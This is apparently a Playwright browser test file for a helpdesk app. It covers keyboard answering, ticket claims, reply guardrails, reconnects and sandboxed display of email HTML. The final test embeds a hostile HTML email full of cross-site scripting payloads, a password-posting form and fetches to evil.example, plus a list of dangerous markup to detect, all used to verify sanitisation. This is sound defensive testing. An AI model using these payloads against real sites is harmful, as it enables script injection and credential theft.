using System.Text;
using Helpdesk.Core.Data;
using Helpdesk.Core.Intake;
using Helpdesk.Core.Tickets;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Playwright;

namespace Helpdesk.Browser.Tests;

[TestClass]
public sealed class AnswerBrowserTests
{
    private static async Task<long> ShownTicketAsync(IPage page)
    {
        var shown = page.Locator(".ticket-number");
        await shown.WaitForAsync(new LocatorWaitForOptions { Timeout = 30_000 });
        return long.Parse(await shown.GetAttributeAsync("data-ticket") ?? throw new AssertFailedException("no ticket number"),
            System.Globalization.CultureInfo.InvariantCulture);
    }

    private static async Task<IPage> StartAnsweringAsync(BrowserDesk desk, string user)
    {
        var page = await desk.SignedInPageAsync(user);
        await page.ClickAsync("a.start-answering");
        await page.WaitForURLAsync(url => new Uri(url).AbsolutePath == "/answer");
        await page.Locator(".answer-workspace[data-state=working]").WaitForAsync(new LocatorWaitForOptions { Timeout = 30_000 });
        // The keyboard module attaches after the first interactive render; a key pressed before that does nothing.
        await page.Locator("html[data-desk-keys=on]").WaitForAsync(new LocatorWaitForOptions { State = WaitForSelectorState.Attached, Timeout = 30_000 });
        return page;
    }

    private static async Task<Ticket> TicketAsync(BrowserDesk desk, long number)
    {
        await using var db = await desk.Services.GetRequiredService<IDbContextFactory<HelpdeskDbContext>>().CreateDbContextAsync();
        return await db.Tickets.AsNoTracking().SingleAsync(t => t.Number == number);
    }

    [TestMethod]
    public async Task StartAnswering_Press1ThenCtrlEnter_ReplyQueuedAndNextTicketShown()
    {
        await using var desk = await BrowserDesk.StartAsync();
        var page = await StartAnsweringAsync(desk, "agent");
        var first = await ShownTicketAsync(page);
        await page.Locator("[data-suggestion='1']").WaitForAsync();

        await page.Keyboard.PressAsync("1");
        await page.WaitForFunctionAsync("() => document.getElementById('reply-editor').value.length > 20");
        await BrowserDesk.ScreenshotAsync(page, "answer-workspace");
        await page.Keyboard.PressAsync("Control+Enter");
        await page.WaitForFunctionAsync("n => { const t = document.querySelector('.ticket-number'); return t && t.dataset.ticket !== n; }", first.ToString(System.Globalization.CultureInfo.InvariantCulture));

        var next = await ShownTicketAsync(page);
        Assert.AreNotEqual(first, next);
        await using var db = await desk.Services.GetRequiredService<IDbContextFactory<HelpdeskDbContext>>().CreateDbContextAsync();
        var outbox = await db.Outbox.AsNoTracking().Where(o => o.TicketNumber == first).ToListAsync();
        Assert.AreEqual(1, outbox.Count, "the reply is in the outbox");
        var ticket = await db.Tickets.AsNoTracking().Include(t => t.Messages).SingleAsync(t => t.Number == first);
        Assert.AreEqual(TicketStatus.Pending, ticket.Status);
        // The first ticket may be one a customer wrote again on after an answer: this test's reply is the newest outbound.
        var reply = ticket.Messages.Where(m => m.Direction == MessageDirection.Outbound).MaxBy(m => m.Id)!;
        Assert.IsNotNull(reply.TemplateVersionId, "the reply came from suggestion 1");
        Assert.IsTrue(reply.SentUnedited);
        StringAssert.Contains(await page.Locator(".workspace-notice").TextContentAsync() ?? "", $"#{first}");
    }

    [TestMethod]
    public async Task SecondAgent_OpensFirstAgentsTicket_RefusedWithHolderNameAndGetsAnother()
    {
        await using var desk = await BrowserDesk.StartAsync();
        var alex = await StartAnsweringAsync(desk, "agent");
        var held = await ShownTicketAsync(alex);

        var lee = await desk.SignedInPageAsync("lead");
        await lee.GotoAsync($"/answer?ticket={held}");
        await lee.Locator(".workspace-problem").WaitForAsync(new LocatorWaitForOptions { Timeout = 30_000 });
        var other = await ShownTicketAsync(lee);

        StringAssert.Contains(await lee.Locator(".workspace-problem").TextContentAsync() ?? "", "being answered by Alex Agent");
        Assert.AreNotEqual(held, other);
        Assert.AreEqual(1L, (await TicketAsync(desk, held)).ClaimedBy, "the first agent still holds the ticket");

        // Presence: the queue shows who holds it.
        await lee.GotoAsync("/");
        await BrowserDesk.WaitForCircuitAsync(lee);
        await lee.FillAsync("#queue-search", held.ToString(System.Globalization.CultureInfo.InvariantCulture));
        await lee.PressAsync("#queue-search", "Enter");
        await lee.WaitForFunctionAsync("n => { const r = document.querySelector(`tr[data-ticket='${n}'] .holder`); return r && r.textContent.includes('Alex Agent'); }", held.ToString(System.Globalization.CultureInfo.InvariantCulture));
    }

    [TestMethod]
    public async Task Keys_QuestionMarkThenEscape_HelpShownThenHidden_SkipGivesTicketBack()
    {
        await using var desk = await BrowserDesk.StartAsync();
        var page = await StartAnsweringAsync(desk, "agent");
        var first = await ShownTicketAsync(page);

        await page.Keyboard.PressAsync("?");
        await page.Locator(".keys-help").WaitForAsync();
        StringAssert.Contains(await page.Locator(".keys-help").TextContentAsync() ?? "", "Send and take the next ticket");
        await BrowserDesk.ScreenshotAsync(page, "answer-keys");
        await page.Keyboard.PressAsync("Escape");
        await page.Locator(".keys-help").WaitForAsync(new LocatorWaitForOptions { State = WaitForSelectorState.Detached });

        // Typing "s" in the editor is text, not Skip.
        await page.Keyboard.PressAsync("e");
        await page.Keyboard.TypeAsync("s");
        Assert.AreEqual(first, await ShownTicketAsync(page));
        Assert.AreEqual("s", await page.InputValueAsync("#reply-editor"));
        await page.Keyboard.PressAsync("Escape");
        await page.Keyboard.PressAsync("s");
        await page.WaitForFunctionAsync("n => { const t = document.querySelector('.ticket-number'); return t && t.dataset.ticket !== n; }", first.ToString(System.Globalization.CultureInfo.InvariantCulture));

        Assert.IsNull((await TicketAsync(desk, first)).ClaimedBy, "the skipped ticket went back to the queue");
    }

    [TestMethod]
    public async Task Guardrails_OutsideLinkPasswordRequestAndCardNumber_SendBlockedUntilFixedAndTicked()
    {
        await using var desk = await BrowserDesk.StartAsync();
        var page = await StartAnsweringAsync(desk, "agent");
        var number = await ShownTicketAsync(page);

        await page.FillAsync("#reply-editor", "Hello, please reset at https://meridian-reset.example/now and send us your password. Card 4111 1111 1111 1111.");
        await page.Locator(".guardrail-block").WaitForAsync();
        Assert.AreEqual(2, await page.Locator(".guardrail-warning").CountAsync());
        Assert.IsTrue(await page.Locator("button.send-next").IsDisabledAsync());
        await BrowserDesk.ScreenshotAsync(page, "answer-guardrail");

        await page.FillAsync("#reply-editor", "Hello, please reset at https://meridian-reset.example/now.");
        await page.Locator(".guardrail-block").WaitForAsync(new LocatorWaitForOptions { State = WaitForSelectorState.Detached });
        Assert.IsTrue(await page.Locator("button.send-next").IsDisabledAsync(), "a warning not ticked still blocks");
        await page.CheckAsync(".guardrail-warning input[type=checkbox]");
        await page.ClickAsync("button.send-next");
        await page.WaitForFunctionAsync("n => { const t = document.querySelector('.ticket-number'); return t && t.dataset.ticket !== n; }", number.ToString(System.Globalization.CultureInfo.InvariantCulture));

        Assert.AreEqual(TicketStatus.Pending, (await TicketAsync(desk, number)).Status);
    }

    [TestMethod]
    public async Task Reload_AfterLostConnection_SameTicketAndDraftBack()
    {
        await using var desk = await BrowserDesk.StartAsync();
        var page = await StartAnsweringAsync(desk, "agent");
        var number = await ShownTicketAsync(page);
        await page.Keyboard.PressAsync("e");
        await page.Keyboard.TypeAsync("Hello, I checked your account and");

        // A reload is what the reconnect script does when the server no longer knows the page's circuit.
        await page.ReloadAsync();
        await BrowserDesk.WaitForCircuitAsync(page);
        await page.Locator(".workspace-notice").WaitForAsync(new LocatorWaitForOptions { Timeout = 30_000 });

        Assert.AreEqual(number, await ShownTicketAsync(page), "the claim survived; the agent gets the same ticket");
        Assert.AreEqual("Hello, I checked your account and", await page.InputValueAsync("#reply-editor"));
        StringAssert.Contains(await page.Locator(".workspace-notice").TextContentAsync() ?? "", "restored");
        Assert.AreEqual(1L, (await TicketAsync(desk, number)).ClaimedBy);
    }

    [TestMethod]
    public async Task ConnectionCutMidDraft_BannerShowsThenReconnects_DraftSent()
    {
        await using var desk = await BrowserDesk.StartAsync();
        var page = await StartAnsweringAsync(desk, "agent");
        // Every Blazor connection from here on goes through this route, so the test can cut it like a flaky Wi-Fi.
        var offline = false;
        var sockets = new List<IWebSocketRoute>();
        await page.RouteAsync("**/_blazor/negotiate**", route => offline ? route.AbortAsync() : route.ContinueAsync());
        await page.RouteWebSocketAsync("**/_blazor**", ws =>
        {
            if (offline) { _ = ws.CloseAsync(); return; }
            ws.ConnectToServer();
            lock (sockets) sockets.Add(ws);
        });
        await page.ReloadAsync();
        await page.Locator(".answer-workspace[data-state=working]").WaitForAsync(new LocatorWaitForOptions { Timeout = 30_000 });
        await page.Locator("html[data-desk-keys=on]").WaitForAsync(new LocatorWaitForOptions { State = WaitForSelectorState.Attached, Timeout = 30_000 });
        var number = await ShownTicketAsync(page);
        await page.Keyboard.PressAsync("e");
        await page.Keyboard.TypeAsync("Hello, I checked your account: the reset link works again.");
        await page.WaitForTimeoutAsync(500); // the last input event reaches the server before the cut

        offline = true;
        IWebSocketRoute[] open;
        lock (sockets) open = [.. sockets];
        foreach (var ws in open) await ws.CloseAsync();
        var banner = page.Locator("#components-reconnect-modal");
        await banner.WaitForAsync(new LocatorWaitForOptions { State = WaitForSelectorState.Visible, Timeout = 15_000 });
        StringAssert.Contains(await banner.TextContentAsync() ?? "", "Reconnecting");
        StringAssert.Contains(await banner.TextContentAsync() ?? "", "your unsent reply is kept");

        offline = false;
        await banner.WaitForAsync(new LocatorWaitForOptions { State = WaitForSelectorState.Hidden, Timeout = 30_000 });
        Assert.AreEqual("Hello, I checked your account: the reset link works again.", await page.InputValueAsync("#reply-editor"));
        await page.Keyboard.PressAsync("Control+Enter");
        await page.WaitForFunctionAsync("n => { const t = document.querySelector('.ticket-number'); return t && t.dataset.ticket !== n; }",
            number.ToString(System.Globalization.CultureInfo.InvariantCulture));
        Assert.AreEqual(TicketStatus.Pending, (await TicketAsync(desk, number)).Status, "the reply typed before the cut was sent");
    }

    private const string HostileHtml = """
        <html><head>
        <meta http-equiv="refresh" content="0;url=http://evil.example/refresh">
        <link rel="stylesheet" href="http://evil.example/style.css">
        <style>@import url(http://evil.example/import.css); body { background: url(http://evil.example/bg.png) }</style>
        <script>console.log('HOSTILE script'); alert('script'); fetch('http://evil.example/fetch');</script>
        </head>
        <body onload="console.log('HOSTILE onload'); alert('onload')">
        <p>Hello from a hostile mail. My reset link never arrived.</p>
        <img src="x" onerror="console.log('HOSTILE onerror'); alert('onerror')">
        <img src="http://evil.example/track.png" alt="tracker">
        <a href="javascript:alert('link')" id="js-link">click me</a>
        <a href="JaVaScRiPt&colon;alert('entity')">entity link</a>
        <div style="width: expression(alert('css')); background-image: url('http://evil.example/css.png')">styled</div>
        <svg onload="alert('svg')"><script>alert('svg script')</script><image href="http://evil.example/svg.png"/></svg>
        <iframe src="http://evil.example/frame"></iframe>
        <iframe srcdoc="<script>alert('srcdoc')</script>"></iframe>
        <object data="http://evil.example/object.swf"></object>
        <embed src="http://evil.example/embed.swf">
        <form action="http://evil.example/post"><input name="password"><button>Send</button></form>
        <math><mtext><img src=x onerror="alert('math')"></mtext></math>
        <video src="http://evil.example/v.mp4" autoplay></video>
        <base href="http://evil.example/">
        </body></html>
        """;

    private static byte[] HostileEmail() => Encoding.UTF8.GetBytes(
        "From: Mallory Example <mallory@example.com>\r\n" +
        "To: passwordchange@meridian.example\r\n" +
        "Subject: My reset link never arrived\r\n" +
        "Message-ID: <hostile-1@example.com>\r\n" +
        "Date: Sun, 22 Nov 2026 10:00:00 +0000\r\n" +
        "MIME-Version: 1.0\r\n" +
        "Content-Type: multipart/alternative; boundary=\"b1\"\r\n\r\n" +
        "--b1\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nHello from a hostile mail. My reset link never arrived.\r\n" +
        "--b1\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + HostileHtml.Replace("\n", "\r\n", StringComparison.Ordinal) + "\r\n--b1--\r\n");

    [TestMethod]
    public async Task HostileHtmlEmail_ShownAsEmail_ExecutesNothingAndLoadsNothingRemote()
    {
        await using var desk = await BrowserDesk.StartAsync();
        var store = desk.Services.GetRequiredService<IntakeStore>();
        var raw = (await store.StoreAsync("browser-test", [HostileEmail()])).Single();
        var outcome = await desk.Services.GetRequiredService<IntakePipeline>().ProcessAsync(raw);
        var number = outcome.TicketNumber ?? throw new AssertFailedException($"no ticket: {outcome.State} {outcome.Error}");

        var page = await desk.SignedInPageAsync("agent");
        var consoleMessages = new List<string>();
        var dialogs = new List<string>();
        var foreign = new List<string>();
        page.Console += (_, m) => consoleMessages.Add(m.Text);
        page.Dialog += async (_, d) => { dialogs.Add(d.Message); await d.DismissAsync(); };
        page.Context.Request += (_, r) =>
        {
            if (!r.Url.StartsWith(desk.Address.ToString(), StringComparison.Ordinal) && !r.Url.StartsWith("data:", StringComparison.Ordinal))
                foreign.Add(r.Url);
        };

        await page.GotoAsync($"/answer?ticket={number}");
        Assert.AreEqual(number, await ShownTicketAsync(page));
        await page.ClickAsync("button.show-html");
        var frameElement = page.Locator("iframe.message-html");
        await frameElement.WaitForAsync();
        Assert.AreEqual("", await frameElement.GetAttributeAsync("sandbox"), "sandboxed, with no allowances");
        var frame = page.FrameLocator("iframe.message-html");
        await frame.Locator("text=Hello from a hostile mail").WaitForAsync();
        // Clicking what is left of the javascript: link does nothing.
        await frame.Locator("text=click me").ClickAsync();
        await page.WaitForTimeoutAsync(1500);
        await BrowserDesk.ScreenshotAsync(page, "answer-html-view");

        var html = await page.Frames.Single(f => f.Url.Contains("/html", StringComparison.Ordinal)).ContentAsync();
        foreach (var bad in new[] { "<script", "onerror", "onload", "javascript:", "expression(", "<svg", "<iframe", " src=\"http://evil" })
            Assert.IsFalse(html.Contains(bad, StringComparison.OrdinalIgnoreCase), $"the frame's HTML contains {bad}");
        Assert.AreEqual(0, dialogs.Count, "dialogs: " + string.Join(", ", dialogs));
        Assert.IsFalse(consoleMessages.Any(m => m.Contains("HOSTILE", StringComparison.Ordinal)), "console: " + string.Join(" | ", consoleMessages));
        Assert.AreEqual(0, foreign.Count, "requests outside the desk: " + string.Join(", ", foreign));

        // The same document opened on its own, outside the frame: its own CSP sandboxes it.
        var id = await frameElement.GetAttributeAsync("src") ?? "";
        var direct = await page.Context.NewPageAsync();
        direct.Dialog += async (_, d) => { dialogs.Add(d.Message); await d.DismissAsync(); };
        direct.Console += (_, m) => consoleMessages.Add(m.Text);
        await direct.GotoAsync(new Uri(desk.Address, id).ToString());
        await direct.WaitForTimeoutAsync(500);
        Assert.AreEqual(0, dialogs.Count);
        Assert.IsFalse(consoleMessages.Any(m => m.Contains("HOSTILE", StringComparison.Ordinal)));
        Assert.AreEqual(0, foreign.Count, "requests outside the desk: " + string.Join(", ", foreign));
    }
}
